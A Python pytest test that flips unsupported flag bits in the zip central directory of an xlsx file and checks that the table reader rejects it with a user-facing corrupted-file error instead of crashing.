@pytest.mark.parametrize("entry", [b"xl/worksheets/sheet1.xml", b"xl/workbook.xml"])
@pytest.mark.parametrize(
    "flag", [0x20, 0x40, 0x01]
)  # "compressed patched data", "strong encryption", "encrypted"
def test_read_table_refuses_zip_entries_with_flags_zipfile_cannot_read(flag, entry):
    """Found by the corrupted-bytes fuzz: a worksheet entry whose local header sets a flag zipfile does not
    implement raised NotImplementedError (a 500) instead of the Thai "corrupted file" message."""
    data = bytearray(_valid_xlsx())
    # The entry in the central directory (zipfile reads the flags there).
    start = data.find(b"PK\x01\x02")
    while start != -1 and not data[start + 46 :].startswith(entry):
        start = data.find(b"PK\x01\x02", start + 1)
    assert start != -1
    data[start + 8] |= flag
    with pytest.raises(TabularError) as refused:
        read_table(bytes(data), columns=READER_COLUMNS)
    assert refused.value.errors[0].message
